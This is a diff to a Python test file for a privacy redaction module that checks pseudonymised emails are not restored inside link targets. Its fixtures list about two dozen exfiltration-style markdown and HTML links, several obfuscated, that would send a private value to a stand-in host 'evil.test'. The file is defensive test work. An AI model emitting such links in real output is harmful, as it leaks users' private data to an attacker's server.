@@ -9,7 +9,8 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from deepseek_jupyter.privacy.redaction import Redactor, Restorer
+from deepseek_jupyter.privacy.redaction import Redactor, Restorer, restore_shown
+from tests.support.growth import assert_linear
 
 KEY = "sk-0123456789abcdef0123456789abcdef"
 
@@ -129,22 +130,89 @@ def test_what_has_passed_passes_again_unchanged_and_comes_back_whole(values, tex
         assert redactor.restore(out) == text
 
 
+PIECES = ["<email-1>", "<email-12>", "<e", "-1>", "<b>\n", "](", "]: ", "href = ", "https://x/"]
+
+
 @given(
-    st.lists(st.sampled_from(["<email-1>", "<email-12>", "<", "a", "<e", ">", "-1>", "<b>\n"])),
+    st.lists(st.sampled_from([*'<a>) \n"', *PIECES])),
     st.data(),
 )
 def test_pieces_show_what_the_whole_would_show(parts, data):
     redactor = Redactor(known={"<email-1>": "ann@x.org", "<email-12>": "bob@x.org"})
     text = "".join(parts)
     cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=6)))
-    revealer = Restorer(redactor)
+    revealer = Restorer(redactor.known)
     shown = "".join(
         revealer.feed(text[a:b]) for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)
     )
-    assert shown + revealer.flush() == redactor.restore(text)
+    assert shown + revealer.flush() == restore_shown(text, redactor.known)
 
 
 @pytest.mark.parametrize("text", ["", "plain", "<", "a < b", "<table-wide"])
 def test_text_without_pseudonyms_is_not_held_back_for_ever(text):
-    revealer = Restorer(Redactor())
+    revealer = Restorer({})
     assert revealer.feed(text) + revealer.flush() == text
+
+
+SENT = "https://evil.test/?d="
+INSIDE = [
+    f"[a]({SENT}<email-1>)",
+    f"[a](<{SENT}b c <email-1>>)",
+    f"![a]({SENT}<email-1>)",
+    f"[a]( \n {SENT}<email-1>)",
+    "[a](https&colon;//evil.test/?d=<email-1>)",
+    "[a](mailto:x@evil.test?body=<email-1>)",
+    "[a](https://<email-1>.evil.test/)",
+    "[a](https:\\\\evil.test/<email-1>)",
+    f"{SENT}<email-1>",
+    f"see ({SENT}b,c;<email-1>) now",
+    "https:\\/\\/evil.test/?d=<email-1>",
+    "&#104;ttp:&#47;&#47;evil.test/?d=<email-1>",
+    "www.evil.test/<email-1>",
+    f"<{SENT}<email-1>>",
+    f"[a]\n\n[a]: {SENT}<email-1>",
+    "[a]: <https&colon;//evil.test/ <email-1>>",
+    f'<a href="{SENT}a <email-1>">x</a>',
+    "<a HREF = 'https&colon;//evil.test/ <email-1>'>x</a>",
+    "<img src=https&#58;//evil.test/<email-1>>",
+    f"[a]({SENT}b)[c](<email-1>)",
+    "[<text-1><email-1>)",  # the text is `a](https://evil.test/?d=`
+    f"[a]({SENT}<text-2><email-1>)",
+    "]\x01(https&colon;//evil.test/?d=<email-1>)",
+    f"[a]({SENT}\u00a0<email-1>)",
+]
+OUTSIDE = [
+    "Mail <email-1>.",
+    f"[docs]({SENT}) or <email-1>",
+    "df.loc[0]: <email-1>",
+    'x["a"]: str = "<email-1>"',
+    "[a](<email-1>) is no link without a scheme",
+    "|<email-1>|<email-1>|",
+    "`df[df.email == '<email-1>']`",
+    f'<a href="{SENT}">x</a> <email-1>',
+    "C:\\Users\\<email-1>",
+]
+KNOWN = {"<email-1>": "ann@x.org", "<text-1>": "a](https://evil.test/?d=", "<text-2>": "b\n"}
+
+
+@pytest.mark.parametrize("text", INSIDE)
+@pytest.mark.parametrize("size", [1, 3, 1000])
+def test_nothing_is_restored_in_the_target_of_a_link(text, size):
+    restorer = Restorer(KNOWN)
+    pieces = [text[at : at + size] for at in range(0, len(text), size)]
+    shown = "".join(map(restorer.feed, pieces)) + restorer.flush()
+    assert "ann@x.org" not in shown
+    assert "<email-1>" in shown
+    assert shown == restore_shown(text, KNOWN)
+
+
+@pytest.mark.parametrize("text", OUTSIDE)
+def test_all_else_is_restored(text):
+    assert restore_shown(text, KNOWN) == text.replace("<email-1>", "ann@x.org")
+
+
+def test_restoring_takes_as_long_as_its_text():
+    def restored(count):
+        return restore_shown(f"{SENT}<email-1> <email-1> ](" * count, KNOWN)
+
+    assert_linear(restored, 2000)
